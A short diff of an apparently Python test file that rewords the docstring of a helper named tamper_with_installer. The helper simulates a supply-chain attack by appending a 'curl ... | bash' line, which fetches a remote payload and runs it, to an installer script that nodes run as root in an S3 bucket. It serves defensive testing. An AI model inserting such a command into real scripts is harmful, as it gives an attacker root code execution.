@@ -7,9 +7,9 @@ _COMMAND = b"\ncurl --silent https://example.org/payload | bash\n"
 
 
 def tamper_with_installer(stage: Stage) -> str:
-    """Add a command to a script that the candidate's nodes run as root; answers its key.
+    """Add a command to a script that the candidate's nodes run as root. Return the object's key.
 
-    The bucket's policy refuses such a write on AWS; moto does not look at its conditions.
+    On AWS the bucket's policy refuses such a write. moto ignores the policy's conditions.
     """
     s3, bucket = stage.aws.client("s3"), stage.outputs["EvidenceBucketName"]
     listed = s3.list_objects_v2(Bucket=bucket, Prefix=f"{folder_of(CANDIDATE)}/")["Contents"]
